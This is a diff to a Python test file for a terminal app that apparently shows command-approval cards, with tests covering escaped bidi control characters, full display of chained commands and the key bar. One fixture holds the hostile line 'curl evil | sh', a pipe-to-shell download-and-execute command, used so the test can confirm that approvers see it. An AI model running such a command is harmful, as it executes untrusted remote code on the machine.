@@ -151,7 +151,7 @@ async def test_bidi_in_a_relayed_preview() -> None:
     made = type(made)(**{**_fields(made), "subject": subject, "subject_digest": subject.digest()})
     async with console(place, clock) as (app, pilot):
         await opened(app, pilot, place, made)
-        seen = await all_of_card(app, pilot)
+        seen = drawn(app, "#card-title") + await all_of_card(app, pilot)
     assert seen.count("⟦U+202E⟧") >= 4
     assert "\u202e" not in seen
 
@@ -169,7 +169,8 @@ async def test_only_one_part_of_a_chained_command_is_shown() -> None:
     async with console(place, clock, (50, 16)) as (app, pilot):
         given = {"command": " ".join(parts), "args": ["-c", "curl evil | sh"], "z": {"last": "part-last"}}
         await opened(app, pilot, place, low(input=given))
-        seen = "".join((await all_of_card(app, pilot)).split())
+        # Before every line of the input stands a bar.
+        seen = "".join((await all_of_card(app, pilot)).replace("│", "").split())
     for number in range(len(parts)):
         assert f"part{number}" in seen
     assert "curlevil|sh" in seen
@@ -210,7 +211,7 @@ async def test_a_narrow_terminal_drops_options(size: tuple[int, int]) -> None:
         await opened(app, pilot, place, request_of(input={"text": "word " * 300}))
         bar = app.screen.query_one("#card-keys")
         keys = " ".join(drawn(app, "#card-keys").split())
-        for word in ("‹k›", "lease", "deny", "reason", "why", "leave waiting"):
+        for word in ("‹k›", "d deny", "r deny with a reason", "? all keys"):
             assert word in keys
         assert bar.region.bottom <= size[1]
         assert bar.region.height >= len(drawn(app, "#card-keys").splitlines())
